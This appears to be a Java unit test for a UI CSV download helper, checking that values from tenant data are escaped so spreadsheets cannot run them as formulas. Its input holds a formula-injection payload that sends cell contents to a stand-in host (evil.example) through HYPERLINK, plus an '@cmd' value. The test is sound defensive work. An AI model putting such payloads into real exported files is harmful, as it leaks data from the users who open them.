package io.tandem.ui.views;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Every CSV download of the UI (dashboard tables, feedback, statements) is built here, formulas neutralised. */
class CsvDownloadTest {

    @Test
    void namesFromTenantDataCannotRunAsFormulas() {
        String csv = CsvDownload.csv(List.of("campaign", "name", "leads"),
                List.of(List.of("c1", "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", 12), List.of("c2", "@cmd", -3)));
        assertThat(csv).isEqualTo("campaign,name,leads\r\n"
                + "c1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\",12\r\n"
                + "c2,'@cmd,-3\r\n");
    }
}
